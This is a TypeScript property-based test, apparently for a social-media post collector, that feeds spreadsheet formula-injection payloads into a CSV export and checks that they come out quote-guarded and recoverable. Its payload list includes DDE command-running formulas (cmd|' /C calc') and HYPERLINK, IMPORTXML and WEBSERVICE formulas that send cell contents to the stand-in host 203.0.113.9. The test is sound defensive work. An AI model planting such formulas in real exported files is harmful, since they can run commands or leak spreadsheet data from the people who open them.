import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { startTestApp, type TestApp } from '../support/app.ts'
import { collectedBy } from '../support/collected.ts'

const posts = 1_700
const columns = ['title', 'body', 'category'] as const
type Cells = Record<(typeof columns)[number], string>

/** What a spreadsheet would run, what breaks records, and what merely looks like either. */
const starts = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '＝',
  '＋',
  '－',
  '＠',
  "'",
  '"',
  '|',
  '',
]
const formulas = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://203.0.113.9/?x="&A1,"click")',
  'IMPORTXML(CONCAT("http://203.0.113.9/?",A1:Z9),"//a")',
  'SUM(1,2)*cmd|"/c calc"!A1',
  'WEBSERVICE("http://203.0.113.9")',
  '2',
  '1e3',
  'ada',
  '',
]
const tails = ['', '"', '""', ',', ';', '\r\n=1+1', '\n@x', '",=1+1,"', "'", '\\', '\u0001', '😀']
const hostile = fc
  .tuple(
    fc.array(fc.constantFrom(...starts), { maxLength: 3 }),
    fc.constantFrom(...formulas),
    fc.array(fc.constantFrom(...tails), { maxLength: 3 }),
  )
  .map(([before, middle, after]) => [...before, middle, ...after].join(''))
const one: fc.Arbitrary<Cells> = fc.record({ title: hostile, body: hostile, category: hostile })

let app: TestApp
afterAll(() => app?.close())

test('SEC-22: of 5,100 hostile cells none is run, and every one can be had back', async () => {
  app = await startTestApp({ clock: { now: () => new Date('2026-11-15T12:00:00Z') } })
  const person = await app.signIn()
  const mine = await collectedBy(app, person)
  const source = await mine.source('twitter', 'someone')
  const given = fc.sample(one, { numRuns: posts, seed: 22 })
  await mine.client.query(
    `insert into posts (workspace_id, source_id, platform, kind, external_id, title, body, category,
       published_at, fetched_at)
     select $1, $2, 'twitter', 'tweet', 'x' || n, p.value ->> 'title', p.value ->> 'body',
       p.value ->> 'category', '2026-11-01T00:00:00Z'::timestamptz + n * interval '1 second', now()
     from json_array_elements($3::json) with ordinality p(value, n)`,
    [mine.workspaceId, source, JSON.stringify(given)],
  )
  await mine.close()

  const response = await fetch(`${app.url}/api/export/posts.csv`, {
    headers: { authorization: `Bearer ${person.token}` },
  })
  const csv = await response.text()
  const rows: Cells[] = parse(csv, { columns: true, record_delimiter: '\r\n', bom: false })
  expect(rows).toHaveLength(posts)
  const cells = rows.flatMap((row) => columns.map((column) => row[column]))
  expect(cells.length).toBeGreaterThan(5_000)
  expect(cells.filter((cell) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell))).toEqual([])
  const guarded = cells.filter((cell) => cell.startsWith("'"))
  expect(guarded.length).toBeGreaterThan(2_000)

  const back = rows.map((row) => columns.map((column) => unguarded(row[column])))
  expect(back).toEqual(given.toReversed().map((cell) => columns.map((column) => cell[column])))
})

/** What docs and the API's description tell people to do. */
const unguarded = (cell: string) => cell.replace(/^'(?='*[=+\-@\t\r\n＝＋－＠])/, '')
